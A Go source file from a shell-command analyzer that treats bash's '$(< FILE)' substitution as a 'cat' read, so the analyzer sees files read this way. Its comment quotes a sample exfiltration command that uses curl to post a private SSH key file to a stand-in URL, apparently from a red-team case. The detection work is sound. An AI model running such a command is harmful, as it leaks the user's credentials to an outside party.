package patterns

import (
	"slices"

	"mvdan.cc/sh/v3/syntax"
)

// `$(< FILE)` is bash's short form of `$(cat FILE)`: the substitution's
// value is the file's text. A statement of nothing but a redirection is
// no part elsewhere (redirOnly), so without this the file read here was
// read by no part, and `curl -d "k=$(< ~/.ssh/id_rsa)" URL` sent a
// secret no class saw (rt13d). It stands as the part "cat" with that
// redirection.

// catSubst reports whether a command substitution is `$(< FILE)`: one
// statement with no command and a single input redirection.
func catSubst(stmts []*syntax.Stmt) bool {
	if len(stmts) != 1 {
		return false
	}
	st := stmts[0]
	return st.Cmd == nil && len(st.Redirs) == 1 && st.Redirs[0].Op == syntax.RdrIn && !st.Negated && !st.Background
}

// catSubstNodes reads `$(< FILE)` as the part "cat" reading FILE.
func (r *reading) catSubstNodes(st *syntax.Stmt, sc scope) []*Node {
	sub := sc.sub(sc.feed)
	own, _, after := r.redirs(st.Redirs, sub)
	sc.redirs = append(slices.Clip(sc.redirs), own...)
	seed := r.seed(st, st, sc)
	at := Span{Start: seed.span.Start, End: seed.span.Start}
	seed.words = []Word{{Span: at, Segs: []Seg{{Kind: SegLit, Text: "cat"}}}}
	_, nodes := r.part(seed)
	return append(nodes, after...)
}
